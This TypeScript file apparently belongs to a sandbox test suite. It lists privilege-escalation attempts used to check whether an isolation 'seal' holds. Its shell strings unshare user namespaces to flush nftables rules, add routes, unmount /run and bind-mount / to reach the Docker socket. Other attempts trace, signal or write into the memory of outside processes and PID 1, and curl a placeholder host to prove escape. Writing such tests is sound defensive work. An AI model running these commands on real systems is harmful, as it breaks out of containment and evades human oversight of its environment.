// Attempts to become more than the seal lets a command be: other namespaces, other processes, more rights.
import type { Attempt } from '../attempt.ts'
import type { Step } from '../attacker/steps.ts'

const theme = 'privileges'
const ask = 'curl -s -m 2 http://{v4}/{token}'
const askDocker = 'curl -s -m 2 --unix-socket /run/docker.sock http://{token}/'

const namespaces: readonly Attempt[] = [
  {
    name: 'enters the network of every process it sees',
    theme,
    needs: ['root'],
    attack: [alone({ do: 'enterNetworks', procs: ['/proc'], to: '{v4}:80' })],
  },
  {
    name: 'enters the network of every process it sees by another /proc',
    theme,
    needs: ['root', 'second /proc'],
    attack: [alone({ do: 'enterNetworks', procs: ['{secondProc}'], to: '{v4}:80' })],
  },
  inside('root in a user namespace of its own', '--user --map-root-user', ask),
  inside('root in a user and network namespace of its own', '--user --map-root-user --net', `ip link set lo up; ${ask}`, 'sealed'),
  inside(
    'flushes the firewall from a user namespace of its own',
    '--user --map-root-user',
    'nft flush ruleset; curl -s -m 2 http://{walled}/{token}',
    'sealed',
  ),
  inside(
    'adds a route from a user namespace of its own',
    '--user --map-root-user',
    'ip route replace {unrouted} via {gateway4}; curl -s -m 2 http://{unrouted}/{token}',
    'sealed',
  ),
  inside('takes masks off in a user namespace of its own', '--user --map-root-user --mount', `umount -l /run; ${askDocker}`),
  inside(
    'shows what is below the masks by a second mount',
    '--user --map-root-user --mount',
    'mkdir -p /tmp/escape/below{index}; mount --bind / /tmp/escape/below{index}; curl -s -m 2 --unix-socket /tmp/escape/below{index}/run/docker.sock http://{token}/',
    'sealed',
  ),
  inside(
    'shows what is below the masks, all of it',
    '--user --map-root-user --mount',
    'mkdir -p /tmp/escape/all{index}; mount --rbind / /tmp/escape/all{index}; umount -l /tmp/escape/all{index}/run; curl -s -m 2 --unix-socket /tmp/escape/all{index}/run/docker.sock http://{token}/',
    'sealed',
  ),
  inside(
    'another /proc of its own',
    '--user --map-root-user --pid --fork --mount-proc',
    'for p in /proc/[0-9]*; do curl -s -m 1 --unix-socket $p/root/run/docker.sock http://{token}/; done',
  ),
  {
    name: 'takes masks off as root',
    theme,
    needs: ['root'],
    attack: [alone({ do: 'run', argv: ['unshare', '--mount', 'sh', '-c', `umount -l /run; umount -l /run; ${askDocker}`] })],
    sealOnly: true,
  },
  {
    name: 'shows what is below the masks as root',
    theme,
    needs: ['root'],
    attack: [
      {
        do: 'run',
        argv: [
          'sh',
          '-c',
          'mkdir -p /tmp/escape/root{index} && mount --bind / /tmp/escape/root{index} && curl -s -m 2 --unix-socket /tmp/escape/root{index}/run/docker.sock http://{token}/',
        ],
      },
    ],
    sealOnly: true,
  },
  {
    name: 'makes a network namespace as root and leaves by it',
    theme,
    needs: ['root'],
    attack: [{ do: 'run', argv: ['nsenter', '--net=/proc/1/ns/net', 'sh', '-c', ask] }],
    sealOnly: true,
  },
]

const processes: readonly Attempt[] = [
  {
    name: 'writes into the memory of PID 1',
    theme,
    attack: [{ do: 'writeMemory', pid: '1', address: '4096', by: 'call' }],
    confesses: 'EFAULT',
    sealOnly: true,
  },
  { name: 'ends a process outside', theme, attack: [{ do: 'kill', pid: '{victim}', signal: 15 }] },
  {
    name: 'signals its whole process group',
    theme,
    attack: [alone({ do: 'kill', pid: '0', signal: 23 })],
    shows: 'the neighbour in the process group was signalled',
  },
  {
    name: 'writes into the memory of a process outside',
    theme,
    needs: ['tracing'],
    attack: [{ do: 'writeMemory', pid: '{victim}', address: '{victimMemory}', by: 'call' }],
  },
  {
    name: 'writes into the memory file of a process outside',
    theme,
    needs: ['tracing'],
    attack: [{ do: 'writeMemory', pid: '{victim}', address: '{victimMemory}', by: 'file' }],
  },
  {
    name: 'traces a process outside',
    theme,
    needs: ['tracing'],
    attack: [alone({ do: 'trace', pid: '{victim}' })],
    shows: 'the victim is traced',
  },
  { name: 'traces PID 1', theme, needs: ['root'], attack: [alone({ do: 'trace', pid: '1' })], shows: 'PID 1 is traced', sealOnly: true },
  {
    name: 'takes the descriptors of PID 1',
    theme,
    needs: ['root'],
    attack: [{ do: 'stealDescriptors', pid: '1', silently: true }],
    confesses: 'took ',
  },
  { name: 'takes the descriptors of a process outside', theme, needs: ['tracing'], attack: [{ do: 'stealDescriptors', pid: '{bait}' }] },
]

const rights: readonly Attempt[] = [
  { name: 'starts with more rights than it needs', theme, attack: [], shows: 'rights beyond the short list' },
  {
    name: 'asks for every capability',
    theme,
    needs: ['root'],
    attack: [alone({ do: 'raiseCapabilities' })],
    shows: 'a capability beyond the short list',
  },
  {
    name: 'a program with the set-user-id bit',
    theme,
    needs: ['root'],
    attack: [
      alone({ do: 'become', uid: 65534, gid: 65534 }, { do: 'run', argv: ['/tmp/become-root', '/tmp/root-only/word'], input: '{token}' }),
    ],
  },
]

const swarms: readonly Attempt[] = [
  {
    name: 'many processes at once',
    theme,
    attack: [
      { do: 'run', argv: ['sh', '-c', 'i=0; while [ $i -lt 40 ]; do (curl -s -m 1 http://{v4}/{token} &); i=$((i+1)); done; wait'] },
    ],
    recorded: true,
  },
  {
    name: 'ends PID 1, then goes on',
    theme,
    serial: true,
    sealOnly: true,
    attack: [...[9, 19, 15, 1, 2, 3].map((signal): Step => ({ do: 'kill', pid: '1', signal })), { do: 'tcp', to: '{v4}:80' }],
  },
]

export const privilegeAttempts: readonly Attempt[] = [...namespaces, ...processes, ...rights, ...swarms]

function alone(...steps: Step[]): Step {
  return { do: 'alone', steps }
}

function inside(name: string, flags: string, script: string, only?: 'sealed'): Attempt {
  return {
    name,
    theme,
    needs: ['user namespaces'],
    attack: [{ do: 'inOwnNamespaces', flags, script }],
    ...(only === undefined ? {} : { sealOnly: true }),
  }
}
